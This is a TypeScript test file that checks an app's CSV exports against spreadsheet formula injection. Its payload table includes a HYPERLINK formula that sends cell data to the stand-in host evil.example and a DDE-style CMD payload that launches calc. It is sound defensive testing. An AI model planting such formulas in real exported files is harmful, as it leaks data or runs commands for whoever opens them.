import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createAccount } from '@/lib/db/accounts';
import { forEachAccountEvents, recordEvents } from '@/lib/db/events';
import { formats } from '@/lib/format';
import { historyCsv, portfolioCsv } from '@/lib/history/csv';
import type { PortfolioRow } from '@/lib/history/portfolio';
import { badRowsCsv, eventsToCsv } from '@/lib/import/export';
import { unguardCell } from '@/lib/import/format';
import type { RowContext } from '@/lib/import/map-row';
import { analyseCsv, readHeaders } from '@/lib/import/parse';
import { detectMapping } from '@/lib/import/presets';
import { importRows } from '@/lib/import/write';
import type { AccountEvent } from '@/lib/model';
import { isSpreadsheetFormula, toSpreadsheetCsv } from '@/lib/spreadsheet-csv';
import { DAY, freshDb, NOW } from './helpers';

/**
 * Issue 15, item 4 (OWASP CSV injection, ASVS 1.2.10): every shape of cell a spreadsheet may run,
 * through every export. Papa Parse's own `escapeFormulae: true` let the multi-line ones through.
 */
const HYPERLINK = '=HYPERLINK("https://evil.example/?q="&B2,\n"Open invoice")';
const FORMULAS: Record<string, string> = {
  equals: '=1+1',
  plus: '+1+1',
  minus: '-1+1',
  at: '@SUM(A1:A9)',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
  'multi-line formula': HYPERLINK,
  'multi-line formula, CRLF': '=HYPERLINK("https://evil.example/",\r\n"Open invoice")',
  'multi-line, plus on the first line': '+CMD|\n"/c calc"!A0',
  'formula after a leading line break': `\n${HYPERLINK}`,
  'formula after leading spaces': '   =1+1',
  'text that already starts with an apostrophe and a formula': "'=1+1",
};
/** Trimmed by the data model (`text`), so they never reach the events export from the database. */
const UNTRIMMED_ONLY = new Set(['tab', 'carriage return', 'formula after a leading line break', 'formula after leading spaces']);
const STORABLE = Object.entries(FORMULAS).filter(([shape]) => !UNTRIMMED_ONLY.has(shape));
const PLAIN = ['Acme', 'a=b', '1-2', 'Open the file\n=not at the start', 'jo@acme.com', "O'Brien"];

const cells = (csv: string) => Papa.parse<string[]>(csv).data;
const guarded = (payload: string) => `'${payload}`;

describe('the formula guard', () => {
  it.each(Object.entries(FORMULAS))('guards %s', (_, payload) => {
    expect(isSpreadsheetFormula(payload)).toBe(true);
    expect(cells(toSpreadsheetCsv(['cell'], [[payload]], '\n'))[1]).toEqual([guarded(payload)]);
    // The importer takes the guard off again, multi-line cells included.
    expect(unguardCell(guarded(payload))).toBe(payload);
  });

  it('leaves plain text alone, and numbers written as numbers (a negative score stays a number)', () => {
    for (const text of PLAIN) expect(isSpreadsheetFormula(text), text).toBe(false);
    expect(cells(toSpreadsheetCsv(['text', 'number'], [[PLAIN[3]!, -5]], '\n'))[1]).toEqual([PLAIN[3], '-5']);
    // A negative amount written as text is guarded like any text starting with "-"; the importer reads it back.
    expect(cells(toSpreadsheetCsv(['amount'], [['-12.50']], '\n'))[1]).toEqual(["'-12.50"]);
  });

  it('keeps no state between cells (no global flag)', () => {
    const csv = toSpreadsheetCsv(['a'], Object.values(FORMULAS).map((payload) => [payload]), '\n');
    expect(cells(csv).slice(1).map(([cell]) => cell)).toEqual(Object.values(FORMULAS).map(guarded));
  });
});

const portfolioRow = (name: string, warning: string): PortfolioRow => ({
  accountId: 'a',
  name,
  domains: [],
  band: 'Watch',
  score: -5,
  // A warning name is one of ours in the app; the export must not trust even that.
  warnings: [warning as PortfolioRow['warnings'][number]],
  revenueMinor: 0,
  currency: 'USD',
  quoteToOrderRate: null,
  maxDaysLate: 0,
  lastActivityAt: null,
});

describe('portfolio export', () => {
  it.each(Object.entries(FORMULAS))('guards %s in the account name and the warnings', (_, payload) => {
    const [, line] = cells(portfolioCsv([portfolioRow(payload, payload)]));
    expect(line![0]).toBe(guarded(payload));
    expect(line![3]).toBe('-5');
    expect(line![4]).toBe(guarded(payload));
  });
});

describe('account-history export', () => {
  it.each(Object.entries(FORMULAS))('guards %s in the account name and the note', (_, payload) => {
    const order = { id: 'o', accountId: 'a', type: 'order', at: NOW, amount: { minor: 100, currency: 'USD' }, note: payload, source: 'manual', createdAt: NOW } as AccountEvent;
    const [, line] = cells(historyCsv(payload, [order], formats('en-US')));
    expect(line![0]).toBe(guarded(payload));
    expect(line![7]).toBe(guarded(payload));
  });
});

describe('bad-rows report', () => {
  it.each(Object.entries(FORMULAS))('guards %s in a reason', (_, payload) => {
    expect(cells(badRowsCsv([{ line: 2, reason: payload }]))[1]).toEqual(['2', guarded(payload)]);
  });
});

describe('events export', () => {
  it('guards every storable shape in account names and notes, and imports back to the same text', async () => {
    const db = await freshDb();
    for (const [index, [shape, payload]] of STORABLE.entries()) {
      const account = await createAccount(db, { name: `${payload} ${shape}` }, NOW);
      // A day apart: the file has days, not times, and the two exports compared below sort by time.
      await recordEvents(db, [{ type: 'note', accountId: account.id, at: NOW - index * DAY, note: payload }], NOW);
    }
    const csv = await eventsToCsv(db);
    const [header, ...lines] = cells(csv.trim());
    const account = header!.indexOf('account');
    const notes = header!.indexOf('notes');
    expect(lines.map((line) => line[notes]).sort()).toEqual(STORABLE.map(([, payload]) => guarded(payload)).sort());
    expect(lines.map((line) => line[account]).sort()).toEqual(STORABLE.map(([shape, payload]) => guarded(`${payload} ${shape}`)).sort());

    const context: RowContext = { defaultCurrency: 'USD', identity: {}, paymentTermsDays: 30 };
    const analysis = analyseCsv(csv, detectMapping(readHeaders(csv)).mapping, context);
    expect(analysis.bad).toEqual([]);
    const other = await freshDb();
    await importRows(other, analysis.rows, { now: NOW });
    const readBack: string[] = [];
    await forEachAccountEvents(other, (_, events) => void readBack.push(...events.map((event) => event.note ?? '')));
    expect(readBack.sort()).toEqual(STORABLE.map(([, payload]) => payload).sort());
    expect((await other.accounts.toArray()).map((a) => a.name).sort()).toEqual(STORABLE.map(([shape, payload]) => `${payload} ${shape}`).sort());
    expect(await eventsToCsv(other)).toBe(csv);
  });
});
